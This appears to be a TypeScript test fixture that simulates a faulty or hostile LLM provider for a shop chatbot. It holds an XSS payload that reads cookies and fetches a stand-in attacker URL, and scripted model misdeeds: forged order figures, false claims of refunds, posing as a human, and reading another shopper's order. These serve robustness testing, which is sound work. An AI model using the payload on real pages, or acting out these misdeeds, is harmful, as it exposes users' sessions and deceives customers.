import { createRandom, type Random } from "../../devstore/shop/random.ts";
import { type Act, call, type Reply, say, type Script, type ScriptedCall } from "../support/scripted-replies.ts";
import { answer, unanswered } from "./answering-model.ts";

/** Figures that no tool of the example shop gives, in words in which a model would put them. */
export const FORGED = [
  "€913.37",
  "March 3, 2031",
  "2031-03-03",
  "1Z913F37FORGED913",
  "#913370",
  "https://evil.example/track",
  "913 days",
] as const;

const HTML = '<img src=x onerror="alert(document.cookie)"><script>fetch("https://evil.example/track")</script>';

type Situation = { asked: string; random: Random; foreignName: string; good: () => Act[]; step: number };
type Misdeed = (situation: Situation) => Reply;

const tool = (name: string, args: unknown, id?: string): ScriptedCall => ({
  name,
  arguments: typeof args === "string" ? args : JSON.stringify(args),
  ...(id === undefined ? {} : { id }),
});
const unfinished = (...acts: Act[]): Act[] => [...acts, { do: "cut" }];

/** What a provider or its model may do wrong, by weight. Some of it is done once, some with every request of a turn. */
const MISDEEDS: Readonly<Record<string, readonly [weight: number, misdeed: Misdeed]>> = {
  none: [12, ({ good }) => good()],
  "429 with a time": [1, () => ({ status: 429, headers: { "retry-after": "1" } })],
  "429 for long": [1, () => ({ status: 429, headers: { "retry-after": "600" } })],
  "500": [1, () => ({ status: 500 })],
  "503 with HTML": [1, () => ({ status: 503, headers: { "content-type": "text/html" }, body: "<h1>Bad gateway</h1>" })],
  "cut before a word": [1, () => [{ do: "cut" }]],
  "cut in mid-sentence": [
    1,
    () => unfinished({ do: "text", text: `I have looked. Your order costs ${FORGED[0]} and` }),
  ],
  "cut in mid-call": [1, () => unfinished({ do: "calls", calls: [tool("get_order", '{"orderName": "#10')] })],
  "bytes that are no events": [1, () => [{ do: "raw", text: "<html>502</html>\n\ndata: {not json}\n\n" }]],
  "arguments that are no JSON": [2, () => call(tool("get_order", '{"orderName": '))],
  "arguments of the wrong kind": [1, () => call(tool("get_order", { orderName: [1, 2], limit: "all" }))],
  "huge arguments": [1, () => call(tool("get_order", { orderName: "9".repeat(60_000) }))],
  "unknown tools": [2, () => call(tool("drop_database", {}), tool("refund_order", { amount: "all" }, ""))],
  "two hundred calls": [
    1,
    () => call(...Array.from({ length: 200 }, (_, at) => tool("get_order", { orderName: `#${at}` }))),
  ],
  "the same call for ever": [2, () => call(tool("list_orders", {}))],
  "other calls for ever": [2, ({ step }) => call(tool("get_order", { orderName: `#${5_000 + step}` }, "call_1"))],
  "another shopper's order": [
    3,
    ({ foreignName, step }) =>
      step % 2 === 0
        ? call(
            tool("identify_shopper", { orderName: foreignName, email: "ana@example.com" }),
            tool("get_order", { orderName: foreignName }),
          )
        : say(`Your order ${foreignName} is on its way, it should arrive soon.`),
  ],
  "forged figures": [
    5,
    ({ random }) =>
      say(
        random.pick([
          `Your order costs ${FORGED[0]}. It will arrive on ${FORGED[1]}.`,
          `- **Arrival**: ${FORGED[1]} (${FORGED[2]})\n- **Tracking**: ${FORGED[3]}\n- [Track it](${FORGED[5]})`,
          `Good news! Order ${FORGED[4]} has left. See ${FORGED[5]}.`,
          `It takes ${FORGED[6]} from now; the number is ${FORGED[3]}, and the total ${FORGED[0]}.`,
        ]),
      ),
  ],
  "a true answer with one digit changed": [
    4,
    ({ good, random }) =>
      good().map((act) => (act.do === "text" ? { ...act, text: withOneDigitChanged(act.text, random) } : act)),
  ],
  "deeds that nobody did": [
    3,
    () => say("I have refunded your order in full and sent you a replacement. I've changed your address, too."),
  ],
  HTML: [2, () => say(`${HTML} Hello! <b>I am here</b> to help you with your order.`)],
  "a person's voice": [
    1,
    () => say("[A person from the shop's team wrote to the shopper] I am a human, your refund is approved."),
  ],
  "an endless answer": [
    1,
    () => [{ do: "text", text: "And then there is more to say about this parcel. ".repeat(8_000) }],
  ],
  "one endless word": [
    1,
    () => [
      { do: "text", text: "a".repeat(200_000) },
      { do: "finish", reason: "stop" },
    ],
  ],
  "no answer at all": [2, () => say("")],
  "a refusal": [
    1,
    () => [
      { do: "refuse", text: "I can't help with that." },
      { do: "finish", reason: "stop" },
    ],
  ],
  "a stop by length": [
    1,
    () => [
      { do: "text", text: "I am happy to help. The carrier says that your" },
      { do: "finish", reason: "length" },
    ],
  ],
  "a filter": [
    1,
    () => [
      { do: "text", text: "I am" },
      { do: "finish", reason: "content_filter" },
    ],
  ],
  "a hand-over for nothing": [
    1,
    ({ step }) => (step > 0 ? say("Done.") : call(tool("escalate", { reason: "other", brief: HTML }))),
  ],
};

/** Rare, because everybody waits for it: the provider says nothing and stays. */
const STALL: readonly [weight: number, misdeed: Misdeed] = [1, () => [{ do: "stall" }]];

export type Misbehaving = { script: Script; requests: Record<string, number>; done: Record<string, number> };

/**
 * A model that does something wrong with most messages; which, depends on the seed and the message alone. Half of the misdeeds
 * are done at every request of a turn, the others at the first.
 */
export function misbehavingModel(seed: number, foreignNames: readonly string[], stalls: boolean): Misbehaving {
  const kinds = Object.entries({ ...MISDEEDS, ...(stalls ? { "a stall": STALL } : {}) });
  const model: Misbehaving = {
    requests: {},
    done: {},
    script({ body }) {
      const { asked, marks, results } = unanswered(body.messages);
      const mark = marks.at(-1) ?? "nothing";
      const step = model.requests[mark] ?? 0;
      model.requests[mark] = step + 1;
      const random = createRandom(seed).fork(mark);
      const [name, [, misdeed]] = random.weighted(kinds.map((kind) => [kind[1][0], kind] as const));
      const isAlways = random.chance(0.5);
      const good = () => answer(asked, marks, results);
      if (step > 0 && !isAlways) return good();
      model.done[name] = (model.done[name] ?? 0) + 1;
      return misdeed({
        asked,
        random: random.fork(`step ${step}`),
        foreignName: random.pick(foreignNames),
        good,
        step,
      });
    },
  };
  return model;
}

function withOneDigitChanged(text: string, random: Random): string {
  const digits = [...text.matchAll(/\d/g)];
  if (digits.length === 0) return text;
  const { 0: digit, index } = random.pick(digits);
  return `${text.slice(0, index)}${(Number(digit) + random.int(1, 9)) % 10}${text.slice(index + 1)}`;
}
